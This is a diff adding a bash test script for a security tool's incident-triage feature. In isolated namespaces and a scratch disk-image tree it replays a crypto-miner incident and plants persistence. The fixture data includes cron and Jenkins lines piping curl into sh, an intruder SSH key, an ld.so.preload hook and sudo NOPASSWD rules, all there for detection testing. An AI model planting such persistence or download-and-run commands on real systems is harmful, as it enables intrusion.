@@ -1,0 +1,239 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: GPL-2.0-or-later
+#
+# buildward triage end to end:
+#   1. the miner incident, replayed in throwaway namespaces (mount, pid, net): a
+#      "postgres" parent, a watchdog that respawns a CPU-burning "mysql" running
+#      from a deleted /tmp file, PostgreSQL's port on 0.0.0.0 of the test's own
+#      network namespace, a trust pg_hba.conf bind-mounted over /etc/postgresql;
+#   2. a clean namespace: nothing at high or above;
+#   3. a disk image tree with planted persistence, read with --root;
+#   4. the bundle: sha256sum -c, tampering detected, openssl verifies the signature;
+#   5. triage diff shows a planted change; the exit codes of bad input.
+# Nothing here touches the host: every plant lives in a tmpfs, a bind mount of
+# a private mount namespace, or a directory the test owns.
+. "$(dirname "$0")/lib.sh"
+require_root
+for tool in unshare python3 openssl sha256sum ssh-keygen; do
+        command -v "$tool" >/dev/null || { echo "1..0 # SKIP '$tool' is not installed (scripts/bootstrap)"; exit 0; }
+done
+
+# /tmp is replaced by a tmpfs inside the scenario: work under /var/tmp.
+W=$(mktemp -d /var/tmp/bw-triage.XXXXXX)
+trap 'rm -rf "$W" "$TEST_TMP"' EXIT
+chmod 0755 "$W"
+"$BUILDWARD" keygen -o "$W/key" >/dev/null || { not_ok "keygen for the bundle signature"; done_testing; exit 1; }
+
+# ---- 1. the miner incident --------------------------------------------------
+mkdir -p "$W/pg/15/main"
+printf '%s\n' '# TYPE DATABASE USER ADDRESS METHOD' 'local all postgres peer' \
+        'host all all 0.0.0.0/0 trust' >"$W/pg/15/main/pg_hba.conf"
+printf '%s\n' "listen_addresses = '*'" 'port = 5432' >"$W/pg/15/main/postgresql.conf"
+
+cat >"$W/scenario.sh" <<'EOF'
+# Runs as pid 1 of a new pid namespace, in its own mount and network namespaces.
+set -eu
+W=$1; shift
+mount --make-rprivate /
+mount -t tmpfs -o size=64m tmpfs /tmp
+mount --bind "$W/pg" /etc/postgresql
+ip link set lo up 2>/dev/null || python3 -c 'pass'
+# The "postgres" parent: a listener on every address and a watchdog child
+# that copies a binary to /tmp/mysql, starts it as "mysql", deletes it, and
+# starts it again whenever it dies.
+cat >"/tmp/postgres.sh" <<'SH'
+python3 -c '
+import socket, time
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("0.0.0.0", 5432)); s.listen(8)
+time.sleep(600)' &
+(exec -a watchdog bash -c '
+for i in $(seq 1 600); do
+        cp /bin/bash /tmp/mysql
+        (exec -a mysql /tmp/mysql -c "while :; do :; done") &
+        sleep 0.3
+        rm -f /tmp/mysql
+        wait $! || true
+done') &
+wait
+SH
+(exec -a postgres bash /tmp/postgres.sh) &
+# Wait for a running, deleted /tmp/mysql and the listener (at most 10 s).
+for i in $(seq 1 100); do
+        found=0
+        for p in /proc/[0-9]*; do
+                [ "$(readlink "$p/exe" 2>/dev/null)" = "/tmp/mysql (deleted)" ] && found=1
+        done
+        grep -q ':1538 00000000:0000 0A' /proc/net/tcp 2>/dev/null && [ $found = 1 ] && break
+        sleep 0.1
+done
+rc=0
+"$@" || rc=$?
+echo "$rc" >"$W/rc"
+EOF
+
+sha_bash=$(sha256sum /bin/bash | cut -d' ' -f1)
+timeout 90 unshare --mount --pid --net --fork --mount-proc bash "$W/scenario.sh" "$W" \
+        "$BUILDWARD" triage --out "$W/miner" --sample 1 --skip packages --sign-key "$W/key" \
+        >"$W/miner.out" 2>"$W/miner.err"
+expect_eq "triage exits 1 when it finds something at high or above" 1 "$(cat "$W/rc" 2>/dev/null)"
+F=$W/miner/findings.json
+fj() { json "$F" "$1" 2>/dev/null || echo "<unreadable findings.json>"; }
+has_rule() { # has_rule RULE PYTHON-CONDITION-ON-f
+        fj "any(f['rule'] == '$1' and ($2) for f in d['findings'])"
+}
+expect_eq "the deleted /tmp/mysql is flagged" true \
+        "$(has_rule triage.deleted-exe "f['process']['exe'] == '/tmp/mysql' and f['evidence']['exe_deleted']")"
+expect_eq "it runs from a writable path" true \
+        "$(has_rule triage.exe-writable-path "f['process']['exe'] == '/tmp/mysql'")"
+expect_eq "the name 'mysql' on a /tmp binary is masquerading" true \
+        "$(has_rule triage.masquerade "f['evidence']['name'] == 'mysql'")"
+expect_eq "the 'postgres' parent (bash under a daemon's name) is masquerading" true \
+        "$(has_rule triage.masquerade "f['evidence']['name'] == 'postgres'")"
+expect_eq "the watchdog that keeps it alive is flagged as watchdog-respawn" true \
+        "$(has_rule triage.watchdog "f['category'] == 'watchdog-respawn' and f['process']['argv'][0] == 'watchdog'")"
+expect_eq "its sustained CPU is flagged as a miner" true \
+        "$(has_rule triage.suspicious-cpu "f['category'] == 'crypto-miner' and f['evidence']['cpu_percent'] >= 50")"
+expect_eq "port 5432 on 0.0.0.0 in the test's network namespace is an exposure" true \
+        "$(has_rule triage.exposed-service "f['evidence']['local'] == '0.0.0.0' and f['evidence']['local_port'] == 5432 and f['evidence']['owners'][0]['comm'].startswith('python')")"
+expect_eq "the trust pg_hba.conf on a server listening everywhere is critical" true \
+        "$(has_rule triage.db-trust-auth "f['severity'] == 'critical' and f['evidence']['file'] == '/etc/postgresql/15/main/pg_hba.conf'")"
+rec=$(fj "[f['evidence'].get('recovered') for f in d['findings'] if f['rule'] == 'triage.deleted-exe'][0]")
+expect_eq "the recovered executable has the sha256 of what was copied to /tmp/mysql" "$sha_bash" \
+        "$(sha256sum "$W/miner/$rec" 2>/dev/null | cut -d' ' -f1)"
+expect_eq "findings.json records the same sha256" "$sha_bash" \
+        "$(fj "[f['evidence']['sha256'] for f in d['findings'] if f['rule'] == 'triage.deleted-exe'][0]")"
+expect_eq "the listener's owner is resolved through /proc/PID/fd" true \
+        "$(json "$W/miner/sockets.json" "any(s.get('local_port') == 5432 and s['listening'] and s['owners'] for s in d['sockets'])")"
+expect_eq "the fake pg_hba.conf is kept raw in the bundle" "$(cat "$W/pg/15/main/pg_hba.conf")" \
+        "$(cat "$W/miner/raw/etc/postgresql/15/main/pg_hba.conf" 2>/dev/null)"
+out=$(cat "$W/miner.out")
+expect_match "the summary leads with the counts by severity" '^buildward triage: [0-9]+ findings \([0-9]+ critical' "$out"
+expect_match "the summary shows the miner with its evidence" 'CRITICAL +triage.suspicious-cpu' "$out"
+
+# ---- 4. the bundle ----------------------------------------------------------
+check "sha256sum -c MANIFEST.sha256 passes from the bundle directory" \
+        sh -c "cd '$W/miner' && sha256sum --quiet -c MANIFEST.sha256"
+expect_eq "the manifest covers findings.json, every collector and the recovered binary" 3 \
+        "$(grep -cE '  \./(findings\.json|processes\.json|deleted-exe/)' "$W/miner/MANIFEST.sha256")"
+check "the signature verifies with openssl pkeyutl -verify -rawin" \
+        openssl pkeyutl -verify -pubin -inkey "$W/key.pub" -rawin -in "$W/miner/MANIFEST.sha256" \
+        -sigfile "$W/miner/MANIFEST.sha256.sig"
+cp -a "$W/miner" "$W/tampered"
+echo '{"findings": []}' >"$W/tampered/findings.json"
+if (cd "$W/tampered" && sha256sum --quiet -c MANIFEST.sha256) >/dev/null 2>&1; then
+        not_ok "an edited findings.json fails sha256sum -c"
+else ok "an edited findings.json fails sha256sum -c"; fi
+sed -i '1s/^./0/' "$W/tampered/MANIFEST.sha256"
+if openssl pkeyutl -verify -pubin -inkey "$W/key.pub" -rawin -in "$W/tampered/MANIFEST.sha256" \
+        -sigfile "$W/tampered/MANIFEST.sha256.sig" >/dev/null 2>&1; then
+        not_ok "an edited manifest fails the signature check"
+else ok "an edited manifest fails the signature check"; fi
+
+# ---- 2. a clean namespace ---------------------------------------------------
+# Packages are skipped: their state is the host's, not the namespace's (the
+# VM's own npm upgrade shows there as a finding, rightly).
+cat >"$W/clean.sh" <<'EOF'
+set -eu
+W=$1; shift
+mount --make-rprivate /
+mount -t tmpfs -o size=16m tmpfs /tmp
+ip link set lo up 2>/dev/null || true
+rc=0
+"$@" || rc=$?
+echo "$rc" >"$W/clean-rc"
+EOF
+timeout 60 unshare --mount --pid --net --fork --mount-proc bash "$W/clean.sh" "$W" \
+        "$BUILDWARD" triage --out "$W/clean" --sample 0.3 --skip packages >"$W/clean.out" 2>&1
+expect_eq "a clean namespace exits 0" 0 "$(cat "$W/clean-rc" 2>/dev/null)"
+expect_eq "a clean namespace has no finding at high or above" "[]" \
+        "$(json "$W/clean/findings.json" "[f['rule'] + ': ' + f['detail'] for f in d['findings'] if f['severity'] in ('high', 'critical')]" 2>&1)"
+expect_eq "the clean capture still listed its processes" true \
+        "$(json "$W/clean/processes.json" "len(d['processes']) >= 1")"
+
+# ---- 3. a disk image with planted persistence -------------------------------
+I=$W/img
+mkdir -p "$I"/etc/{cron.d,sudoers.d,systemd/system,ssh} "$I"/var/spool/cron/crontabs "$I"/root/.ssh \
+        "$I"/home/alice/.ssh "$I"/var/lib/jenkins/jobs/app/builds/7 "$I"/tmp
+printf '%s\n' 'root:x:0:0:root:/root:/bin/bash' 'alice:x:1000:1000::/home/alice:/bin/bash' >"$I/etc/passwd"
+printf '%s\n' 'root ALL=(ALL:ALL) ALL' >"$I/etc/sudoers"
+printf '%s\n' 'SHELL=/bin/sh' '17 * * * * root cd / && run-parts --report /etc/cron.hourly' >"$I/etc/crontab"
+printf 'PermitRootLogin yes\n' >"$I/etc/ssh/sshd_config"
+ssh-keygen -q -t ed25519 -N '' -C managed@ops -f "$W/managed"
+ssh-keygen -q -t ed25519 -N '' -C intruder@evil -f "$W/intruder"
+cp "$W/managed.pub" "$I/root/.ssh/authorized_keys"
+# a link that would leave the image if it were followed on the host
+ln -s /etc/sudoers "$I/etc/sudoers.d/zz-link"
+sleep 1.1
+since=$(date +%s)
+sleep 1.1
+printf '%s\n' '*/5 * * * * /tmp/.x/kworker >/dev/null 2>&1' >"$I/var/spool/cron/crontabs/alice"
+printf '%s\n' '* * * * * root curl -fsSL http://127.0.0.1:9/i.sh | sh' >"$I/etc/cron.d/sysupdate"
+printf '%s\n' '[Unit]' 'Description=updater' '[Service]' 'ExecStart=/tmp/.cache/updater --quiet' \
+        '[Install]' 'WantedBy=multi-user.target' >"$I/etc/systemd/system/updater.service"
+cat "$W/intruder.pub" >>"$I/root/.ssh/authorized_keys"
+echo /usr/lib/x86_64-linux-gnu/libhook.so >"$I/etc/ld.so.preload"
+echo 'alice ALL=(ALL) NOPASSWD: ALL' >"$I/etc/sudoers.d/90-alice"
+printf '%s\n' '+ make' '+ curl -fsSL http://127.0.0.1:9/setup.sh | bash' >"$I/var/lib/jenkins/jobs/app/builds/7/log"
+
+RC=0
+"$BUILDWARD" triage --root "$I" --out "$W/disk" --inventory "$W/managed.pub" --since "@$since" \
+        >"$W/disk.out" 2>"$W/disk.err" || RC=$?
+RUN_ERR=$W/disk.err
+expect_rc "--root exits 1 on planted persistence" 1
+F=$W/disk/findings.json
+expect_eq "a cron job from /tmp is flagged" true \
+        "$(has_rule triage.cron-writable-path "'/tmp/.x/kworker' in f['evidence']['line']")"
+expect_eq "a cron job piping curl into sh is critical" true \
+        "$(has_rule triage.cron-download-exec "f['severity'] == 'critical' and f['evidence']['file'] == '/etc/cron.d/sysupdate'")"
+expect_eq "a systemd unit running from /tmp is flagged" true \
+        "$(has_rule triage.unit-writable-path "f['evidence']['file'] == '/etc/systemd/system/updater.service'")"
+fp=$(ssh-keygen -lf "$W/intruder.pub" | cut -d' ' -f2)
+expect_eq "the key outside the inventory is flagged, with ssh-keygen's fingerprint" true \
+        "$(has_rule triage.unknown-ssh-key "f['evidence']['fingerprint'] == '$fp'")"
+expect_eq "the inventoried key is not" 1 "$(fj "len([f for f in d['findings'] if f['rule'] == 'triage.unknown-ssh-key'])")"
+expect_eq "a non-empty ld.so.preload is critical" true "$(has_rule triage.ld-preload "f['severity'] == 'critical'")"
+expect_eq "sudo NOPASSWD for everything is flagged" true \
+        "$(has_rule triage.sudo-nopasswd "f['severity'] == 'high' and f['evidence']['file'] == '/etc/sudoers.d/90-alice'")"
+expect_eq "curl|bash in a Jenkins build log is flagged" true \
+        "$(has_rule triage.ci-download-exec "f['evidence']['line_number'] == 2")"
+expect_eq "PermitRootLogin yes is flagged" true "$(has_rule triage.sshd-root-login "f['category'] == 'exposure'")"
+expect_eq "a symlink in the image resolves inside the image, not on the host" "root ALL=(ALL:ALL) ALL" \
+        "$(cat "$W/disk/raw/etc/sudoers.d/zz-link" 2>/dev/null)"
+expect_eq "--root says the process collectors were skipped" skipped \
+        "$(json "$W/disk/capture.json" "d['collectors']['processes']['status']")"
+expect_match "and the summary says so" 'processes: skipped \(needs the live host' "$(cat "$W/disk.out")"
+newer=$(json "$W/disk/newer.json" "sorted(f['path'] for f in d['files'] if f['type'] == 'file')")
+expect_match "files newer than --since include the planted ones" 'updater.service.*ld.so.preload|ld.so.preload.*updater.service' "$newer"
+expect_eq "and not the older ones" false "$(json "$W/disk/newer.json" "any(f['path'] == '/etc/passwd' for f in d['files'])")"
+
+# ---- 5. diff, archive, exit codes -------------------------------------------
+cp "$W/intruder.pub" "$I/home/alice/.ssh/authorized_keys"
+printf '%s\n' '@reboot /dev/shm/.s' >>"$I/var/spool/cron/crontabs/alice"
+"$BUILDWARD" triage --root "$I" --out "$W/disk2" --inventory "$W/managed.pub" --archive >/dev/null 2>"$W/disk2.err"
+RC=0
+"$BUILDWARD" triage diff "$W/disk" "$W/disk2" >"$W/diff.out" 2>&1 || RC=$?
+RUN_ERR=$W/diff.out
+expect_rc "triage diff exits 1 when something changed" 1
+diff_out=$(cat "$W/diff.out")
+expect_match "diff shows the new cron entry" '^\+ cron .*@reboot /dev/shm/\.s' "$diff_out"
+expect_eq "diff shows the new key for alice" 1 \
+        "$(awk -v fp="$fp" '$1 == "+" && $2 == "key" && $3 == "alice" && $4 == fp' "$W/diff.out" | wc -l)"
+RC=0
+"$BUILDWARD" triage diff "$W/disk2" "$W/disk2" >"$W/diff0.out" 2>&1 || RC=$?
+expect_rc "triage diff of a bundle with itself exits 0" 0
+check "--archive packs a tar.zst holding the manifest" \
+        sh -c "tar --zstd -tf '$W/disk2.tar.zst' | grep -qx 'disk2/MANIFEST.sha256'"
+RC=0
+"$BUILDWARD" triage --out "$W/disk2" --root "$I" >/dev/null 2>"$W/err" || RC=$?
+RUN_ERR=$W/err
+expect_rc "a non-empty --out is refused with 125" 125
+expect_match "with a one-line reason" "cannot use '.*disk2' as the bundle directory" "$(cat "$W/err")"
+RC=0
+"$BUILDWARD" triage --bogus >/dev/null 2>"$W/err" || RC=$?
+expect_rc "an unknown option exits 2" 2
+RC=0
+"$BUILDWARD" triage --root "$W/missing" --out "$W/x" >/dev/null 2>"$W/err" || RC=$?
+expect_rc "a missing --root exits 2" 2
+
+done_testing
